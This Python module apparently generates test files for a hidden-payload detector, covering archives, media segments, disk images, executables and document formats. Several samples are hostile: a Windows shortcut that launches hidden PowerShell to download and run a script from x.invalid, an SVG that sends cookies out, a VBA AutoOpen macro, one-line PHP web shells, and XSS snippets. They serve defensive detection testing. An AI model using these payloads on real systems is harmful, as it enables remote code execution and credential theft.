"""Payload makers for hidden.py (issue 16): the payload types the detector had no signature for,
HLS AES-128 segments, TSs cut mid-stream, an ISO 9660 image and short web scripts.

make_hidden_payloads(P) returns name -> (bytes, manifest type, description) like build.py's
make_payloads(). Real tools where Debian has them (gcab, arj, wat2wasm, genisoimage, cpio, ar, lz4,
javac, groff, binutils, openssl, sqlite3, pydicom's own sample files); the rest is written by hand
from the format's specification (LNK, PCAP/pcapng, SWF, OLE/CFB, DEX, big-endian ELF, Mach-O 32
and fat). Everything is deterministic: fixed keys, timestamps patched or pinned.
"""
import hashlib
import os
import random
import struct
import zlib
from pathlib import Path

import build as B  # the running build.py (aliased there)

KEY = bytes(range(16))  # the HLS AES-128 key of every encrypted segment


def _src_dir():
    src = B.TMP / "hsrc"
    if not src.exists():
        src.mkdir()
        (src / "notes.txt").write_bytes(b"hidden payload test data for the stowaway corpus\n" * 30)
        (src / "data.bin").write_bytes(random.Random(16).randbytes(600))
        for f in src.iterdir():
            f.chmod(0o644)
            os.utime(f, (B.EPOCH, B.EPOCH))
        os.utime(src, (B.EPOCH, B.EPOCH))
    return src


def hls_segments(ts_long):
    """HLS AES-128 segments: whole-packet slices of a real TS, each encrypted as ffmpeg's hls
    muxer and `openssl enc` do it (AES-128-CBC, PKCS#7, IV = media sequence number)."""
    out = {}
    for seq, kb in enumerate((10, 25, 60, 200)):
        n = kb * 1024 // 188 * 188
        assert len(ts_long) >= n, len(ts_long)
        src = B.tmpfile(f"seg{seq}.ts", ts_long[:n])
        iv = seq.to_bytes(16, "big").hex()
        enc = B.run(["openssl", "enc", "-aes-128-cbc", "-K", KEY.hex(), "-iv", iv, "-nosalt",
                     "-in", str(src)])
        out[f"enc{kb}k"] = (enc, "Unknown", f"HLS AES-128 segment #{seq}: {n // 188} TS packets "
                            f"encrypted with openssl enc -aes-128-cbc ({len(enc)} bytes)")
    return out


def iso9660():
    """~51 KB ISO 9660 image (genisoimage, no padding); the PVD dates genisoimage takes from the
    clock are set to the epoch. Starts with the 32 KiB zero system area."""
    src = B.TMP / "isosrc"
    src.mkdir()
    (src / "readme.txt").write_bytes(b"hidden disc image\n")
    os.utime(src / "readme.txt", (B.EPOCH, B.EPOCH))
    os.utime(src, (B.EPOCH, B.EPOCH))
    out = B.TMP / "h.iso"
    B.run(["genisoimage", "-quiet", "-no-pad", "-V", "STOWAWAY", "-o", str(out), str(src)])
    d = bytearray(out.read_bytes())
    pvd = 0x8000
    assert d[pvd:pvd + 6] == b"\x01CD001"
    for off in (813, 830, 864):  # creation, modification, effective (expiration stays unset)
        d[pvd + off:pvd + off + 17] = b"2020010100000000\0"
    return bytes(d)


def arj_fix(d):
    """ARJ writes the clock into the main header, each file's access and change (ctime, which no
    one can set) times into its header and a random 'reserved' byte into every header: set them
    all, then recompute each basic header's CRC-32."""
    d, i = bytearray(d), 0
    dos = ((2020 - 1980) << 25) | (1 << 21) | (1 << 16)
    while True:
        assert d[i:i + 2] == b"\x60\xea"
        size = struct.unpack("<H", d[i + 2:i + 4])[0]
        if size == 0:
            return bytes(d)
        h = i + 4
        d[h + 7] = 0
        if d[h + 6] == 2:  # main header: created, modified
            struct.pack_into("<II", d, h + 8, dos, dos)
        elif d[h] >= 42:  # file header with atime, ctime in its extra data
            struct.pack_into("<II", d, h + 34, dos, dos)
        struct.pack_into("<I", d, h + size, zlib.crc32(d[h:h + size]))
        j = h + size + 4
        while (ext := struct.unpack("<H", d[j:j + 2])[0]):
            j += 2 + ext + 4
        j += 2
        if d[h + 6] != 2:
            j += struct.unpack("<I", d[h + 12:h + 16])[0]  # compressed size
        i = j


def lnk():
    """MS-SHLLINK shortcut to cmd.exe with arguments (HasName, HasRelativePath, HasArguments,
    IsUnicode), as phishing archives carry them."""
    ft = (B.EPOCH + 11644473600) * 10_000_000
    hdr = (struct.pack("<I", 0x4C) + bytes.fromhex("0114020000000000c000000000000046")
           + struct.pack("<II", 0x04 | 0x08 | 0x20 | 0x80, 0x20) + struct.pack("<QQQ", ft, ft, ft)
           + struct.pack("<IiIHHII", 289792, 0, 7, 0, 0, 0, 0))
    assert len(hdr) == 76

    def sd(s):
        return struct.pack("<H", len(s)) + s.encode("utf-16-le")
    return (hdr + sd("Invoice") + sd("..\\..\\..\\Windows\\System32\\cmd.exe")
            + sd("/c start /min powershell -w hidden -c \"iwr http://x.invalid/p.ps1|iex\"") + b"\0" * 4)


def packets():
    """Three fixed Ethernet/IPv4/UDP frames."""
    out = []
    for i in range(3):
        body = f"stowaway pcap frame {i} ".encode() * 3
        udp = struct.pack(">HHHH", 5353, 53, 8 + len(body), 0) + body
        ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), i, 0, 64, 17, 0,
                         bytes([10, 0, 0, 1]), bytes([10, 0, 0, 2])) + udp
        out.append(b"\x02" * 6 + b"\x04" * 6 + b"\x08\x00" + ip)
    return out


def pcap():
    d = struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1)
    for i, f in enumerate(packets()):
        d += struct.pack("<IIII", B.EPOCH + i, 1000 * i, len(f), len(f)) + f
    return d


def pcapng():
    def block(t, body):
        body += b"\0" * (-len(body) % 4)
        n = 12 + len(body)
        return struct.pack("<II", t, n) + body + struct.pack("<I", n)
    d = block(0x0A0D0D0A, struct.pack("<IHHq", 0x1A2B3C4D, 1, 0, -1))
    d += block(1, struct.pack("<HHI", 1, 0, 65535))
    for i, f in enumerate(packets()):
        ts = (B.EPOCH + i) * 1_000_000
        d += block(6, struct.pack("<IIIII", 0, ts >> 32, ts & 0xFFFFFFFF, len(f), len(f)) + f)
    return d


def swf(compressed):
    """Minimal SWF 10: 550x400 stage, 24 fps, SetBackgroundColor, ShowFrame, End."""
    bits = "01111" + "".join(format(v, "015b") for v in (0, 11000, 0, 8000))
    bits += "0" * (-len(bits) % 8)
    rect = int(bits, 2).to_bytes(len(bits) // 8, "big")

    def tag(code, body):
        return struct.pack("<H", code << 6 | len(body)) + body
    body = rect + struct.pack("<HH", 24 << 8, 1) + tag(9, b"\x10\x20\x30") + tag(1, b"") + tag(0, b"")
    if compressed:
        return b"CWS\x0a" + struct.pack("<I", 8 + len(body)) + zlib.compress(body, 9)
    return b"FWS\x0a" + struct.pack("<I", 8 + len(body)) + body


def ole():
    """Minimal Compound File Binary v3 (MS-CFB): header, one FAT sector, one directory sector,
    one 4096-byte stream 'Payload' in regular sectors 2..9."""
    FREE, END, FAT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    hdr = (bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
           + b"\0" * 6 + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, END, 0, END, 0)
           + struct.pack("<I", 0) + struct.pack("<I", FREE) * 108)
    assert len(hdr) == 512
    fat = [FAT, END] + list(range(3, 10)) + [END]
    fat = struct.pack("<128I", *(fat + [FREE] * (128 - len(fat))))

    def entry(name, typ, child, start, size):
        n = (name + "\0").encode("utf-16-le") if name else b""
        return (n.ljust(64, b"\0") + struct.pack("<HBB", len(n), typ, 1 if typ else 0)
                + struct.pack("<III", FREE, FREE, child) + b"\0" * 16 + b"\0" * 4 + b"\0" * 16
                + struct.pack("<IQ", start, size))
    dirs = entry("Root Entry", 5, 1, END, 0) + entry("Payload", 2, FREE, 2, 4096)
    dirs += entry("", 0, FREE, 0, 0) * 2
    assert len(dirs) == 512
    stream = (b"Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n  Shell \"cmd /c calc\"\r\nEnd Sub\r\n"
              * 60)[:4096]
    return hdr + fat + dirs + stream


def dex():
    """Minimal DEX 035: header, one string, map list; adler32 and SHA-1 as the Dalvik spec says."""
    s = b"Lstowaway/Hidden;"
    string_data = bytes([len(s)]) + s + b"\0"
    sid_off = 0x70
    sdata_off = sid_off + 4
    map_off = (sdata_off + len(string_data) + 3) & ~3
    items = [(0x0000, 1, 0), (0x0001, 1, sid_off), (0x2002, 1, sdata_off), (0x1000, 1, map_off)]
    maplist = struct.pack("<I", len(items)) + b"".join(struct.pack("<HHII", t, 0, n, o) for t, n, o in items)
    size = map_off + len(maplist)
    body = struct.pack("<I", sdata_off) + string_data
    body += b"\0" * (map_off - sid_off - len(body)) + maplist
    hdr = struct.pack("<II", size, 0x70) + struct.pack("<I", 0x12345678) + struct.pack("<II", 0, 0)
    hdr += struct.pack("<I", map_off) + struct.pack("<II", 1, sid_off) + struct.pack("<II", 0, 0) * 5
    hdr += struct.pack("<II", size - sdata_off, sdata_off)
    rest = hdr + body  # from offset 32 on
    sig = hashlib.sha1(rest).digest()
    chk = zlib.adler32(sig + rest)
    d = b"dex\n035\0" + struct.pack("<I", chk) + sig + rest
    assert len(d) == size and len(b"dex\n035\0" + b"\0" * 24 + hdr) == 0x70
    return d


def elf32_be():
    """Minimal big-endian 32-bit MIPS ELF executable: header, one PT_LOAD, 'jr ra; nop'."""
    code = bytes.fromhex("03e0000800000000")
    eh = (b"\x7fELF\x01\x02\x01" + b"\0" * 9 + struct.pack(">HHIIIIIHHHHHH", 2, 8, 1, 0x400054, 52, 0,
                                                            0x1000, 52, 32, 1, 0, 0, 0))
    ph = struct.pack(">IIIIIIII", 1, 0, 0x400000, 0x400000, 84 + len(code), 84 + len(code), 5, 0x1000)
    return eh + ph + code


def macho32():
    """Minimal 32-bit x86 Mach-O executable header with a __PAGEZERO LC_SEGMENT."""
    seg = struct.pack("<II16sIIIIiiII", 1, 56, b"__PAGEZERO", 0, 0x1000, 0, 0, 0, 0, 0, 0)
    return struct.pack("<IiiIIII", 0xFEEDFACE, 7, 3, 2, 1, len(seg), 0x85) + seg + b"\0" * 200


def macho_fat(m32, m64):
    """Universal binary: i386 (our macho32) and arm64 (the real _speedups.so), 4 KiB aligned."""
    slices, off, head = [], 4096, b""
    for cpu, sub, data in ((7, 3, m32), (0x0100000C, 0, m64)):
        head += struct.pack(">iiIII", cpu, sub, off, len(data), 12)
        slices.append((off, data))
        off = (off + len(data) + 4095) & ~4095
    out = bytearray(struct.pack(">II", 0xCAFEBABE, 2) + head)
    for o, data in slices:
        out += b"\0" * (o - len(out)) + data
    return bytes(out)


SVG = (b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>fetch("//x.invalid/'
       b'?"+document.cookie)</script><rect width="10" height="10"/></svg>\n')
RTF = (b"{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times;}}{\\object\\objemb\\objw10\\objh10{\\*\\objclass "
       b"Equation.3}{\\*\\objdata 0105000002000000}}\\f0 hidden \\par}\n")
SHORT = {  # short web scripts (class short-script): name -> (bytes, type)
    "php_short": (b"<?=`system($_GET[c])?>", "PHP"),
    "php_short2": (b"<?=`$_GET[0]`?>", "PHP"),
    "iframe": (b"<iframe src=//evil.invalid>", "HTML"),
    "js30": (b";alert(document.domain)//.....", "JavaScript"),
    "svg_onload": (b"<svg onload=alert(1)>", "HTML"),
    "script": (b"<script>alert(1)</script>", "HTML"),
    "php20": (b"<?php `$_GET[0]`; ?>", "PHP"),
}
assert len(SHORT["iframe"][0]) == 27 and len(SHORT["js30"][0]) == 30 and len(SHORT["php20"][0]) == 20


def make_hidden_payloads(P):
    H = {}
    src = _src_dir()
    names = sorted(f.name for f in src.iterdir())
    cab = B.TMP / "h.cab"
    B.run(["gcab", "-c", "-n", "-z", str(cab), *names], cwd=src)
    H["cab"] = (cab.read_bytes(), "CAB", "gcab -z (MSZIP) cabinet")
    arj = B.TMP / "h.arj"
    B.run(["arj", "a", "-i", "-y", str(arj), *names], cwd=src)
    H["arj"] = (arj_fix(arj.read_bytes()), "ARJ", "arj a (dates/reserved bytes fixed)")
    java = B.tmpfile("Hidden.java", b'public class Hidden { public static void main(String[] a) '
                     b'throws Exception { Runtime.getRuntime().exec(a); } }\n')
    B.run(["javac", "--release", "8", "-d", str(B.TMP), str(java)])
    H["javaclass"] = ((B.TMP / "Hidden.class").read_bytes(), "JavaClass", "javac --release 8 class")
    wat = B.tmpfile("h.wat", b'(module (memory (export "m") 1) (func (export "f") (param i32) (result i32)'
                    b' local.get 0 i32.const 42 i32.add) (data (i32.const 0) "stowaway"))\n')
    B.run(["wat2wasm", str(wat), "-o", str(B.TMP / "h.wasm")])
    H["wasm"] = ((B.TMP / "h.wasm").read_bytes(), "WASM", "wabt wat2wasm module")
    H["svg"] = (SVG, "SVG", "SVG with a script element")
    ps = B.run(["groff", "-Tps"], input=b"Hidden PostScript document\n.br\nsecond line\n")
    ps = b"\n".join(b"%%CreationDate: Wed Jan  1 00:00:00 2020" if ln.startswith(b"%%CreationDate")
                    else ln for ln in ps.split(b"\n"))
    H["ps"] = (ps, "PostScript", "groff -Tps (CreationDate fixed)")
    H["rtf"] = (RTF, "RTF", "RTF with an embedded OLE object")
    H["lz4"] = (B.run(["lz4", "-q", "-c", str(src / "notes.txt")]), "LZ4", "lz4 frame")
    H["iso"] = (iso9660(), "ISO", "genisoimage ISO 9660 (32 KiB zero system area first)")
    H["lnk"] = (lnk(), "LNK", "MS-SHLLINK shortcut to cmd.exe, written from the spec")
    lst = "".join(n + "\n" for n in names).encode()
    for fmt in ("newc", "odc"):
        H["cpio_" + fmt] = (B.run(["cpio", "--quiet", "-o", "-H", fmt, "--reproducible"], input=lst, cwd=src),
                            "CPIO", f"cpio -o -H {fmt} --reproducible")
    B.run(["ar", "rcD", str(B.TMP / "h.a"), *names], cwd=src)
    H["ar"] = ((B.TMP / "h.a").read_bytes(), "AR", "ar rcD (deterministic)")
    import pydicom  # noqa: E402 (only here)
    dcm = Path(pydicom.__file__).parent / "data/test_files/MR_small.dcm"
    H["dicom"] = (dcm.read_bytes(), "DICOM", "pydicom's MR_small.dcm (128-byte preamble + DICM)")
    H["pcap"] = (pcap(), "PCAP", "classic pcap, 3 UDP frames, written by hand")
    H["pcapng"] = (pcapng(), "PCAP", "pcapng SHB/IDB/EPB, written by hand")
    H["swf"] = (swf(False), "SWF", "uncompressed FWS written by hand")
    H["swfz"] = (swf(True), "SWF", "zlib CWS written by hand")
    H["ole"] = (ole(), "OLE", "minimal CFB v3 with one stream, written by hand")
    db = B.TMP / "h.sqlite"
    import sqlite3  # noqa: E402
    con = sqlite3.connect(db)
    con.executescript("CREATE TABLE loot(id INTEGER PRIMARY KEY, k TEXT, v BLOB);")
    con.executemany("INSERT INTO loot(k, v) VALUES (?, ?)",
                    [(f"key{i}", random.Random(i).randbytes(40)) for i in range(50)])
    con.commit()
    con.close()
    H["sqlite"] = (db.read_bytes(), "SQLite", "python sqlite3 database")
    H["dex"] = (dex(), "DEX", "minimal DEX 035 written from the Dalvik spec")
    asm = B.tmpfile("h.s", b'.globl _start\n_start:\n mov $1,%eax\n xor %ebx,%ebx\n int $0x80\n'
                    b'.data\nmsg: .ascii "stowaway hidden payload\\n"\n')
    B.run(["as", "--32", "-o", str(B.TMP / "h.o"), str(asm)])
    B.run(["ld", "-m", "elf_i386", "-s", "-o", str(B.TMP / "h32"), str(B.TMP / "h.o")])
    H["elf32"] = ((B.TMP / "h32").read_bytes(), "ELF", "binutils ld -m elf_i386 (32-bit ELF)")
    H["elfbe"] = (elf32_be(), "ELF", "big-endian MIPS ELF32 written by hand")
    B.run(["ld", "-m", "i386pe", "--no-insert-timestamp", "-s", "-o", str(B.TMP / "h.exe"),
           str(B.TMP / "h.o")])
    H["pe32"] = ((B.TMP / "h.exe").read_bytes(), "PE", "binutils ld -m i386pe (PE32)")
    m32 = macho32()
    H["macho32"] = (m32, "Mach-O", "32-bit x86 Mach-O header written by hand")
    H["machofat"] = (macho_fat(m32, P["macho"][0]), "Mach-O", "fat Mach-O (i386 + the arm64 dylib)")

    long_ts = B.ffmpeg("long.ts", ["-f", "lavfi", "-i", "testsrc=size=320x240:rate=25:duration=8",
                                   "-f", "lavfi", "-i", "sine=frequency=440:duration=8"],
                       ["-c:v", "libx264", "-preset", "ultrafast", "-pix_fmt", "yuv420p", "-c:a", "aac"],
                       "mpegts")
    H.update(hls_segments(long_ts))
    H["ts_long"] = (long_ts[:300 * 188], "MPEG-TS", "ffmpeg TS, 300 packets (56 KB)")
    cut = 188 * 7 + 101
    H["ts_mid"] = (long_ts[cut:cut + 150 * 188], "MPEG-TS",
                   f"TS cut mid-stream at byte {cut} (87 bytes of a packet, no PAT first)")
    for kb in (1, 4, 16, 64, 200):
        H[f"rand{kb}k"] = (random.Random(1000 + kb).randbytes(kb * 1024), "Unknown", f"{kb} KiB random")
    text = b"".join(f"row {i}: {random.Random(i).random()}\n".encode() for i in range(4000))
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    H["deflate"] = (c.compress(text) + c.flush(), "Unknown", "raw deflate stream (no header)")
    for k, (v, t) in SHORT.items():
        H[k] = (v, t, f"{len(v)}-byte {t} snippet")
    return H
